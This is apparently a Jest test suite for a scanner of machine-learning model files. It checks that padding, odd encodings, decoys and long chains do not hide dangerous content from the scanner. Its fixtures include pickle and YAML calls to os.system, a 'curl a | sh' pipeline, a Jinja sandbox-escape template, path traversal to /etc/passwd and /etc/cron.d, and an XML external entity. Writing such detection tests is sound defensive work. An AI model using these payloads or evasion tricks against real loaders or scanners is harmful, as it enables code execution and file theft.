import { describe, expect, it } from '@jest/globals';
import { hdf5 } from '../support/hdf5-assembler.js';
import { inspectBytes } from '../support/inspect-bytes.js';
import * as onnx from '../support/onnx-assembler.js';
import { bytesField } from '../support/protobuf-assembler.js';
import * as tf from '../support/tf-assembler.js';

/** Padding, disguises and order that loaders do not mind must not hide anything from the scanner. */
type Case = readonly [what: string, name: string, content: string | Uint8Array, told: string];

const ascii = (text: string): Buffer => Buffer.from(text, 'latin1');
const wide = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
const mebibytes = (count: number): string => 'x'.repeat(count * 2 ** 20);

async function expectTold([, name, content, told]: Case): Promise<void> {
  const bytes = typeof content === 'string' ? Buffer.from(content) : content;
  expect((await inspectBytes(bytes, name)).told).toContain(told);
}

const target = '"_target_": "os.system", "command": "echo hello"';
const applied = '!!python/object/apply:os.system [echo hello]';
const lambda =
  '"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "broken"}}}}]}';

describe('a key that a loader acts on', () => {
  it.each<Case>([
    [
      'behind 17 MiB',
      'any.json',
      `{"a": "${mebibytes(17)}", ${target}}`,
      'critical manifest/dangerous-target',
    ],
    ['in UTF-16', 'any.json', wide(`{${target}}`), 'critical manifest/dangerous-target'],
    [
      'with an escaped letter',
      'any.json',
      `{${target.replace('target', 't\\u0061rget')}}`,
      'critical manifest/dangerous-target',
    ],
    [
      'broken by a line',
      'any.yaml',
      '? "_tar\\\n  get_"\n: os.system\n',
      'critical manifest/dangerous-target',
    ],
    [
      'with an escaped tag',
      'any.yaml',
      `a: ${applied.replace('python', 'pyth%6fn')}`,
      'critical manifest/python-tag',
    ],
    ['behind 2 MiB of YAML', 'any.yaml', `# ${mebibytes(2)}\na: ${applied}`, 'critical manifest/python-tag'],
    [
      'behind a hundred thousand items',
      'config.json',
      `{"a": [${'1,'.repeat(200_000)}1], ${target}}`,
      'critical manifest/dangerous-target',
    ],
  ])('%s is acted on', async (...row) => {
    await expectTold(row);
  });
});

describe('a source of packages', () => {
  const index = '--index-url https://example.invalid/simple\n';
  it.each<Case>([
    [
      'behind a long comment',
      'requirements.txt',
      `#${mebibytes(1)}\n${index}`,
      'warning manifest/package-source',
    ],
    [
      'behind blanks',
      'requirements.txt',
      `a ${' '.repeat(5_000)}${index}`,
      'warning manifest/package-source',
    ],
    ['in UTF-16', 'requirements.txt', wide(index), 'warning manifest/package-source'],
    [
      'in UTF-7',
      'requirements.txt',
      `# coding: utf-7\n${index.replaceAll('-', '+AC0-')}`,
      'warning manifest/package-source',
    ],
    ['beside a control character', 'requirements.txt', `# \x01\n${index}`, 'warning manifest/package-source'],
    [
      'shortened',
      'requirements.txt',
      index.replace('--index-url', '--extra'),
      'warning manifest/package-source',
    ],
    ['glued', 'requirements.txt', index.replace('--index-url ', '-i'), 'warning manifest/package-source'],
    ['in quotes', 'requirements.txt', index.replace(/https\S+/, '"$&"'), 'warning manifest/package-source'],
  ])('%s is judged', async (...row) => {
    await expectTold(row);
  });
});

describe('a command', () => {
  it.each<Case>([
    [
      'behind blanks',
      'dvc.yaml',
      `cmd: echo ${' '.repeat(20_000)}; curl a | sh`,
      'critical manifest/shell-command',
    ],
    [
      'longer than can be judged',
      'dvc.yaml',
      `cmd: "echo ${mebibytes(2)}"`,
      'critical manifest/shell-command',
    ],
  ])('%s is judged', async (...row) => {
    await expectTold(row);
  });
});

describe('a template', () => {
  it('with a NUL is rendered', async () => {
    await expectTold([
      '',
      'chat_template.jinja',
      "\0{{ ''.__class__.__mro__[1].__subclasses__() }}",
      'critical jinja-template/python-internals',
    ]);
  });
});

describe('a Keras configuration', () => {
  it.each<Case>([
    ['behind blanks', 'model.json', `${' '.repeat(70_000)}{${lambda}}`, 'warning keras/lambda-layer'],
    [
      'of whose keys the ninth of a name counts',
      'model.json',
      `{"class_name": "Sequential", "config": {"layers": [{"class_name": "system", ${'"module": "keras.layers", '.repeat(9)}"module": "os", "config": {}}]}}`,
      'critical keras/dangerous-import',
    ],
  ])('%s is judged', async (...row) => {
    await expectTold(row);
  });
});

describe('a pickle without PROTO', () => {
  const call = "cos\nsystem\n(S'echo hello'\ntR";
  it.each<Case>([
    [
      'that calls before an import that fails',
      'model.bin',
      `${call}0cx-y\nz\n.`,
      'critical pickle/dangerous-call',
    ],
    [
      'that calls before what is no text',
      'model.bin',
      ascii(`${call}0c\xff\xfe\nz\n.`),
      'critical pickle/dangerous-call',
    ],
    ['behind many streams', 'model.bin', `${'N.'.repeat(20)}${call}.`, 'critical pickle/dangerous-call'],
    [
      'behind a line of 17 MiB',
      'model.bin',
      `V${mebibytes(17)}\n0${call}.`,
      'critical pickle/dangerous-call',
    ],
    [
      'of a module whose name is no identifier',
      'model.bin',
      'cmy-module\nrun\n(tR.',
      'warning pickle/foreign-call',
    ],
  ])('%s is run', async (...row) => {
    await expectTold(row);
  });
});

describe('a compressed stream', () => {
  it('behind more skippable frames than anybody writes is unpacked', async () => {
    const skippable = Buffer.from('502a4d1800000000', 'hex');
    const frame = Buffer.from('28b52ffd200d69000063636f730a73797374656d0a28742e', 'hex');
    const { formats } = await inspectBytes(
      Buffer.concat([...Array<Buffer>(40).fill(skippable), frame]),
      'a.bin',
    );
    expect(formats).toContain('zstd');
  });
});

describe('a message behind fields that nobody knows', () => {
  const unknown = bytesField(500, 'x');
  const writes = tf.graphDef([
    tf.constant('file', '/tmp/x'),
    tf.node('write', 'WriteFile', ['file', 'file']),
  ]);
  const reaches = onnx.model(
    onnx.graph({
      nodes: [onnx.node({ op: 'Identity' })],
      tensors: [onnx.tensor({ name: 'w', external: [['location', '../../../../etc/passwd']] })],
    }),
  );
  it.each<Case>([
    ['as a graph', 'model.bin', Buffer.concat([unknown, writes]), 'critical tf-graph/file-write'],
    [
      'as a SavedModel',
      'model.bin',
      Buffer.concat([...Array<Buffer>(1000).fill(unknown), tf.savedModel(tf.metaGraph(writes))]),
      'critical tf-graph/file-write',
    ],
    [
      'as ONNX',
      'model.bin',
      Buffer.concat([...Array<Buffer>(3000).fill(unknown), reaches]),
      'critical onnx/external-data-outside',
    ],
    [
      'as ONNX behind a field of another type',
      'a.bin',
      Buffer.concat([bytesField(1, 'x'), reaches]),
      'critical onnx/external-data-outside',
    ],
  ])('%s is read', async (...row) => {
    await expectTold(row);
  });
});

describe('a path that reaches an operator of TensorFlow', () => {
  const outside = '/etc/cron.d/x';
  const reads = (input: string, ...nodes: readonly Uint8Array[]): Uint8Array =>
    tf.graphDef([...nodes, tf.node('s', 'SaveV2', [input, 'a', 'b', 'c'])]);
  const handedOn = Array.from({ length: 100 }, (_, index) =>
    tf.node(`i${String(index)}`, 'Identity', [index === 0 ? 'c' : `i${String(index - 1)}`]),
  );
  const long = 'x'.repeat(1_100);
  it.each<Case>([
    [
      'the tenth of a constant',
      'a.pb',
      reads('g', tf.constant('c', ...Array.from('abcdefghi'), outside), tf.node('g', 'GatherV2', ['c', 'i'])),
      'critical tf-graph/file-write',
    ],
    [
      'through many nodes',
      'a.pb',
      reads('i99', tf.constant('c', outside), ...handedOn),
      'critical tf-graph/file-write',
    ],
    [
      'by steps that lead nowhere',
      'a.pb',
      reads('c', tf.constant('c', `${'./'.repeat(300)}../../../etc/cron.d/x`)),
      'critical tf-graph/file-write',
    ],
    [
      'by a name that is another’s to its 1,100th letter',
      'a.pb',
      reads(`${long}1`, tf.constant(`${long}1`, outside), tf.constant(`${long}2`, 'b')),
      'critical tf-graph/file-write',
    ],
    [
      'by the last of many inputs',
      'a.pb',
      reads(
        'p',
        tf.constant('c', outside),
        tf.node('p', 'Pack', [...Array.from({ length: 5_000 }, () => 'n'), 'c']),
      ),
      'critical tf-graph/file-write',
    ],
  ])('%s is judged', async (...row) => {
    await expectTold(row);
  });
});

describe('a place outside of an ONNX model', () => {
  const outside = 'critical onnx/external-data-outside';
  const tensorAt = (...external: readonly (readonly [string, string])[]): Uint8Array =>
    onnx.model(
      onnx.graph({
        tensors: [onnx.tensor({ name: 'w', external: external.map(([key, value]) => [key, value]) })],
      }),
    );
  const steps = `${'./'.repeat(900)}../../etc/passwd`;
  const inSyntax = `< ir_version: 8, opset_import: ["" : 17] >\ng (float[1] x) => (float[1] y) { y = Identity (x) }\n{ float[1] w = ["location": "${steps}"] }`;
  it.each<Case>([
    ['behind steps that lead nowhere', 'a.onnx', tensorAt(['location', steps]), outside],
    [
      'in the last of many entries',
      'a.onnx',
      tensorAt(...Array.from({ length: 300 }, () => ['location', 'w.bin'] as const), [
        'location',
        '../../etc/passwd',
      ]),
      outside,
    ],
    [
      'in the syntax',
      'a.onnxtxt',
      inSyntax.replace('y = Identity', `w = ["location": "${steps}"]\n y = Identity`),
      outside,
    ],
  ])('%s is told', async (...row) => {
    await expectTold(row);
  });
});

describe('metadata', () => {
  const template = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
  const of = (...entries: readonly [string, string][]): Uint8Array =>
    onnx.model(onnx.graph({}), ...entries.map(([key, value]) => onnx.modelField.metadata(key, value)));
  const decoys = Array.from({ length: 100 }, (_, index): [string, string] => [
    `k${String(index)}`,
    '{{ __a }}',
  ]);
  it.each<Case>([
    [
      'far behind in a line',
      'a.onnx',
      of(['a', `${'x'.repeat(200_000)}${template}`]),
      'critical jinja-template/python-internals metadata!a',
    ],
    [
      'behind a hundred others',
      'a.onnx',
      of(...decoys, ['z', template]),
      'critical jinja-template/python-internals metadata!z',
    ],
  ])('%s is judged', async (...row) => {
    await expectTold(row);
  });
});

describe('an entity of XML', () => {
  const document = (entities: string): string =>
    `<!DOCTYPE PMML [${entities}]><PMML version="4.4"><Header/></PMML>`;
  it.each<Case>([
    [
      'behind a thousand others',
      'a.pmml',
      document(`${'<!ENTITY a "b">'.repeat(1_100)}<!ENTITY x SYSTEM "file:///etc/passwd">`),
      'critical xml-model/external-entity',
    ],
    [
      'that is made of others far behind',
      'a.pmml',
      document(`<!ENTITY a "b"><!ENTITY x "${' '.repeat(1_000)}&a;&a;">`),
      'critical xml-model/external-entity',
    ],
  ])('%s is told', async (...row) => {
    await expectTold(row);
  });
});

describe('more than is looked into', () => {
  const decoys = Object.fromEntries(
    Array.from({ length: 5_100 }, (_, index) => [`a${String(index)}`, `${'x'.repeat(8)}.`]),
  );
  it.each<Case>([
    ['attributes of HDF5', 'a.h5', hdf5({ attributes: decoys }), 'warning scan/limit-reached'],
    [
      'free text of ONNX',
      'a.onnx',
      onnx.model(onnx.graph({}), onnx.modelField.metadata('a', mebibytes(17))),
      'warning scan/limit-reached',
    ],
  ])('%s is said', async (...row) => {
    await expectTold(row);
  });
});
